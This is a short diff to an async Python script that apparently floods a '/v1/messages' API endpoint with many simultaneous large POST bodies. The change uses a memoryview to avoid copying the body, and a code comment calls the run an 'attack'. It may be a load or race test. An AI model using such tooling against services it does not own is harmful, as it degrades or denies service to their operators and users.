@@ -84,9 +84,10 @@ async def waiting(target: Target) -> None:
 async def _bodies(target: Target, count: int, made: bytes) -> None:
     """Send so many at once of a body, that begins "{": members are put there that tell one from the other."""
     numbers = itertools.count()
+    rest = memoryview(made)[1:]  # twenty-four copies would take as long as the attack
 
     async def once(number: int) -> None:
-        beginning, rest = b'{"metadata":{"user_id":"%d"},"top_k":%d,' % (number, next(numbers)), made[1:]
+        beginning = b'{"metadata":{"user_id":"%d"},"top_k":%d,' % (number, next(numbers))
         head = _head(target, "POST /v1/messages", f"content-length: {len(beginning) + len(rest)}", "connection: close")
         async with target.connected() as (reader, writer), asyncio.timeout(60):
             writer.write(head + beginning)
